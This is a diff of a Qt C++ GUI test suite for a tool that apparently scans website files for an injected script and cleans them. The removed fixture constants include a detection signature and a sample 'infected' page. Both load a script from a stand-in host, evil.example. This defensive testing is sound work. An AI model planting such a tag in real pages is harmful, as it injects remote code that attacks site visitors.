@@ -1,141 +1,36 @@
-// The main window and the results window, driven through their buttons and keys
-// on the offscreen platform.
-#include <unistd.h>
+// The main window driven through its buttons and keys on the offscreen platform:
+// its look, the scan, the clean and the small commands.
 
-#include <QApplication>
-#include <QComboBox>
 #include <QElapsedTimer>
-#include <QFileDialog>
 #include <QGroupBox>
 #include <QLabel>
-#include <QLineEdit>
-#include <QMessageBox>
-#include <QPlainTextEdit>
 #include <QProcess>
 #include <QScrollBar>
-#include <QSignalSpy>
-#include <QTemporaryDir>
-#include <QTest>
 #include <QTextCursor>
-#include <QTimer>
-
-#include <functional>
-#include <memory>
 
 #include "app/messages.h"
 #include "platform/fs.h"
 #include "platform/pathcodec.h"
-#include "recorders.h"
-#include "testsupport.h"
-#include "text/textops.h"
-#include "ui/form1.h"
-#include "ui/form2.h"
 #include "ui/module1.h"
 #include "ui/product.h"
-#include "ui/wrapbutton.h"
 
-using namespace Qt::StringLiterals;
+#include "windowtest.h"
 
-namespace {
-
-const QByteArray kSignature = "<script src=http://evil.example/x.js></script>";
-const QByteArray kInfected = "<html>\r\n<SCRIPT SRC=http://evil.example/x.js></script>\r\n</html>";
-const QByteArray kClean = "<html>\r\n<p>nothing here</p>\r\n</html>";
-
-// Runs `f` at the scan's next yield (the next time events are handled).
-void atNextYield(std::function<void()> f) {
-  QTimer::singleShot(0, qApp, std::move(f));
-}
-
-// Runs `f` each time the event loop handles posted events, until it returns
-// false: a posted call waits for the next handling of events.
-void onEachEventHandling(QObject* context, std::function<bool()> f) {
-  QMetaObject::invokeMethod(
-      context,
-      [context, f] {
-        if (f())
-          onEachEventHandling(context, f);
-      },
-      Qt::QueuedConnection);
-}
-
-// Sets an editable box's text as a user would: select all, then type.
-void typeInto(QComboBox* box, const QString& text) {
-  box->lineEdit()->selectAll();
-  QTest::keyClick(box->lineEdit(), Qt::Key_Delete);
-  QTest::keyClicks(box->lineEdit(), text);
-}
-
-void typeInto(QPlainTextEdit* box, const QString& text) {
-  box->setFocus();
-  QTest::keyClick(box, Qt::Key_A, Qt::ControlModifier);
-  QTest::keyClick(box, Qt::Key_Delete);
-  for (const QString& line : text.split(u'\n')) {
-    if (line != text.split(u'\n').first())
-      QTest::keyClick(box, Qt::Key_Return);
-    QTest::keyClicks(box, line);
-  }
-}
-
-void click(QAbstractButton* button) {
-  QTest::mouseClick(button, Qt::LeftButton);
-}
-
-QStringList comboItems(const QComboBox* box) {
-  QStringList out;
-  for (int i = 0; i < box->count(); ++i)
-    out.append(box->itemText(i));
-  return out;
-}
-
-QString plain(const QPlainTextEdit* box) {
-  return box->toPlainText();
-}
-
-}  // namespace
-
-class WindowsTest : public QObject {
+class Form1Test : public QObject, protected WindowFixture {
   Q_OBJECT
-
- private:
-  std::unique_ptr<RecordingDialogs> dialogs;
-  std::unique_ptr<RecordingShell> shell;
-  std::unique_ptr<Form1> form;
-  std::unique_ptr<TempTree> tree;
-
-  // A tree with infected files in its root and in two subfolders.
-  void makeSite() {
-    tree->write("index.htm", kInfected);
-    tree->write("about.htm", kClean);
-    tree->write("news/list.htm", kInfected);
-    tree->write("news/old/archive.htm", kInfected);
-    tree->write("style.css", kInfected);
-  }
-  // Location, filter and signature, entered through the widgets.
-  void prepareScan(const QString& location, const QString& filter) {
-    typeInto(form->Combo1, location);
-    typeInto(form->Combo2, filter);
-    typeInto(form->Text3, QString::fromLatin1(kSignature));
-  }
-  QString at(const QByteArray& rel) const { return tree->path(rel); }
 
  private Q_SLOTS:
   void init() {
-    dialogs = std::make_unique<RecordingDialogs>();
-    shell = std::make_unique<RecordingShell>();
-    form = std::make_unique<Form1>(*dialogs, *shell);
-    form->Form_Load();
+    openWindow();
     QVERIFY(QTest::qWaitForWindowExposed(form.get()));
-    tree = std::make_unique<TempTree>();
   }
   void cleanup() {
-    form.reset();
-    tree.reset();
+    closeWindow();
     // A scan makes its location the current directory.
     QCOMPARE(::chdir("/"), 0);
   }
 
-  // --- Right after load -------------------------------------------------
+  // --- Right after load -----------------------------------------------
 
   void stateAfterLoad() {
     QVERIFY(form->isVisible());
@@ -273,7 +168,7 @@ class WindowsTest : public QObject {
     QVERIFY(form->windowIcon().availableSizes().contains(QSize(48, 48)));
   }
 
-  // --- Scan ---------------------------------------------------------------
+  // --- Scan -----------------------------------------------------------
 
   void scanThroughTheButton() {
     makeSite();
@@ -402,7 +297,7 @@ class WindowsTest : public QObject {
     QCOMPARE(plain(form->Text1), QString());
   }
 
-  // --- Clean --------------------------------------------------------------
+  // --- Clean ----------------------------------------------------------
 
   void cleanThroughTheButton() {
     makeSite();
@@ -467,7 +362,7 @@ class WindowsTest : public QObject {
     QCOMPARE(platform::encodePath(shell->shownFiles.first()), tree->abs(odd));
   }
 
-  // --- Small commands ------------------------------------------------------
+  // --- Small commands -------------------------------------------------
 
   void ctrlASelectsTheSignature() {
     form->Text3->setFocus();
@@ -487,54 +382,6 @@ class WindowsTest : public QObject {
     // Other keys reach the box as typed.
     QTest::keyClicks(form->Text3, u"abc"_s);
     QCOMPARE(plain(form->Text3), u"abc"_s);
-  }
-
-  void resultsWindowShownHiddenAndShownAgain() {
-    click(form->Command3);
-    Form2* results = form->form2();
-    QVERIFY(results != nullptr);
-    QVERIFY(results->isVisible());
-    QCOMPARE(results->Combo1->count(), 0);
-    QCOMPARE(results->windowTitle(), u"打开文件夹"_s);
-    QCOMPARE(results->size(), QSize(490, 51));
-    QCOMPARE(results->Combo1->geometry(), QRect(8, 16, 337, 20));
-    QCOMPARE(results->Command1->geometry(), QRect(360, 16, 65, 17));
-    QCOMPARE(results->Command2->geometry(), QRect(432, 16, 49, 17));
-    QCOMPARE(results->Command1->text(), u"打开（&Q）"_s);
-    QCOMPARE(results->Command2->text(), u"返回"_s);
-    QVERIFY(results->parentWidget() == nullptr);  // no owner window
-
-    click(form->Command3);
-    QCOMPARE(form->form2(), results);  // one window
-
-    makeSite();
-    prepareScan(tree->root(), u"*.htm"_s);
-    click(form->Command1);
-    QCOMPARE(form->form2(), results);
-    QCOMPARE(results->Combo1->count(), 3);
-    results->Combo1->setEditText(u"edited by hand"_s);
-
-    click(results->Command2);
-    QVERIFY(!results->isVisible());
-    click(form->Command3);
-    QVERIFY(results->isVisible());
-    QCOMPARE(results->Combo1->count(), 3);
-    QCOMPARE(results->Combo1->currentText(), u"edited by hand"_s);
-  }
-
-  void openShowsTheBoxTextUnchanged() {
-    click(form->Command3);
-    Form2* results = form->form2();
-    click(results->Command1);  // an empty list and text: passed on all the same
-    results->Combo1->setEditText(u" /srv/my site/a b.htm "_s);
-    click(results->Command1);
-    QCOMPARE(shell->shownFiles, (QStringList{QString(), u" /srv/my site/a b.htm "_s}));
-    QVERIFY(dialogs->messages.isEmpty());
-
-    shell->starts = false;
-    click(results->Command1);
-    QCOMPARE(dialogs->messageTexts(), QStringList{msg::kFileManagerFailed.toString()});
-    QCOMPARE(dialogs->messages.first().parent.data(), static_cast<QWidget*>(results));
   }
 
   void helpOpensTheForumPage() {
@@ -569,123 +416,14 @@ class WindowsTest : public QObject {
     }
   }
 
-  void folderPickerStartsAtTheDesktopOrHome() {
-    // HOME is a temporary folder (see main): first without a desktop, then with.
-    const QString home = QDir::homePath();
-    QDir(home + u"/Desktop"_s).removeRecursively();
-    QCOMPARE(Module1::dialogStartFolder(), home);
-    QVERIFY(QDir().mkpath(home + u"/Desktop"_s));
-    QCOMPARE(Module1::dialogStartFolder(), home + u"/Desktop"_s);
-
-    QString out = u"unchanged"_s;
-    RecordingDialogs d;
-    QCOMPARE(Module1::BrowseForFolder(d, nullptr, out, u"t"_s, Module1::BIF_RETURNONLYFSDIRS),
-             QString());
-    QCOMPARE(out, u"unchanged"_s);  // written only when a folder is chosen
-    d.folderAnswer = u"/"_s;
-    QCOMPARE(Module1::BrowseForFolder(d, nullptr, out, u"t"_s, 0), u"/"_s);
-    QCOMPARE(out, u"/"_s);
-    QVERIFY(!d.folderRequests.last().directoriesOnly);
-  }
-
-  void realFolderDialogCancelled() {
-    Form1 real(ui::systemDialogs(), *shell);
-    real.Form_Load();
-    real.Combo1->setEditText(tree->root());
-    QString title, start;
-    QFileDialog::FileMode mode = QFileDialog::AnyFile;
-    bool dirsOnly = false;
-    QTimer::singleShot(0, this, [&] {
-      auto* dialog = qobject_cast<QFileDialog*>(QApplication::activeModalWidget());
-      QVERIFY(dialog);
-      title = dialog->windowTitle();
-      start = dialog->directory().absolutePath();
-      mode = dialog->fileMode();
-      dirsOnly = dialog->testOption(QFileDialog::ShowDirsOnly);
-      QTest::keyClick(dialog, Qt::Key_Escape);
-    });
-    click(real.Command5);
-    QCOMPARE(title, u"请选择文件夹："_s);
-    QCOMPARE(start, Module1::dialogStartFolder());
-    QCOMPARE(mode, QFileDialog::Directory);
-    QVERIFY(dirsOnly);
-    QCOMPARE(real.Combo1->currentText(), QString());
-  }
-
-  void realMessageBox() {
-    QString title, text;
-    QMessageBox::Icon icon = QMessageBox::NoIcon;
-    QList<QAbstractButton*> buttons;
-    QMessageBox::StandardButton okButton = QMessageBox::NoButton;
-    QTimer::singleShot(0, this, [&] {
-      auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
-      QVERIFY(box);
-      title = box->windowTitle();
-      text = box->text();
-      icon = box->icon();
-      buttons = box->buttons();
-      okButton = box->standardButton(buttons.value(0));
-      click(buttons.value(0));
-    });
-    ui::systemDialogs().critical(form.get(), u"该目录不是有效路径"_s);
-    QCOMPARE(title, u"Tervane"_s);
-    QCOMPARE(text, u"该目录不是有效路径"_s);
-    QCOMPARE(icon, QMessageBox::Critical);
-    QCOMPARE(buttons.size(), 1);
-    QCOMPARE(okButton, QMessageBox::Ok);
-  }
-
-  // --- Closing ------------------------------------------------------------
-
-  void userClosesTheResultsWindow() {
-    makeSite();
-    prepareScan(tree->root() + u"/news"_s, u"*.htm"_s);
-    click(form->Command1);
-    click(form->Command3);
-    QPointer<Form2> first = form->form2();
-    first->close();
-    QTRY_VERIFY(first.isNull());  // discarded with its list
-    QVERIFY(form->form2() == nullptr);
-
-    typeInto(form->Combo1, tree->root());
-    typeInto(form->Combo2, u"*.css"_s);
-    click(form->Command1);
-    QCOMPARE(comboItems(form->form2()->Combo1), QStringList{at("style.css")});
-  }
-
-  void resultsWindowClosedDuringAScan() {
-    makeSite();
-    prepareScan(tree->root(), u"*.htm"_s);
-    QPointer<Form2> closed;
-    atNextYield([&] {
-      click(form->Command3);
-      closed = form->form2();
-      closed->Combo1->addItem(u"from before"_s);
-      closed->close();
-    });
-    click(form->Command1);
-    QTest::qWait(50);  // let the closed window go
-    QVERIFY(closed.isNull());
-    // The hand-off made a new window for this scan's results.
-    QVERIFY(form->form2() != nullptr);
-    QCOMPARE(form->form2()->Combo1->count(), 3);
-    QCOMPARE(form->form2()->Combo1->itemText(0), at("index.htm"));
-  }
-
-  void closingTheMainWindowDiscardsTheResultsWindow() {
-    click(form->Command3);
-    QPointer<Form2> results = form->form2();
-    QVERIFY(results->isVisible());
-    QVERIFY(form->close());
-    QVERIFY(results.isNull());
-    QVERIFY(!form->isVisible());
-  }
+  // --- Ending ---------------------------------------------------------
 
   void exitAndCloseDuringAScanEndTheProcess_data() {
     QTest::addColumn<QString>("mode");
     QTest::newRow("exit button") << u"exit"_s;
     QTest::newRow("close the window") << u"close"_s;
   }
+
   void exitAndCloseDuringAScanEndTheProcess() {
     QFETCH(QString, mode);
     makeSite();
@@ -704,15 +442,7 @@ class WindowsTest : public QObject {
 };
 
 int main(int argc, char** argv) {
-  // Nothing of the user's: a home of our own for the folder dialog.
-  QTemporaryDir home;
-  qputenv("HOME", QFile::encodeName(home.path()));
-  qputenv("XDG_CONFIG_HOME", QFile::encodeName(home.path() + u"/.config"_s));
-  if (qEnvironmentVariableIsEmpty("QT_QPA_PLATFORM"))
-    qputenv("QT_QPA_PLATFORM", "offscreen");
-  QApplication app(argc, argv);
-  WindowsTest test;
-  return QTest::qExec(&test, argc, argv);
+  return runWindowTests<Form1Test>(argc, argv);
 }
 
-#include "windows_test.moc"
+#include "form1_test.moc"
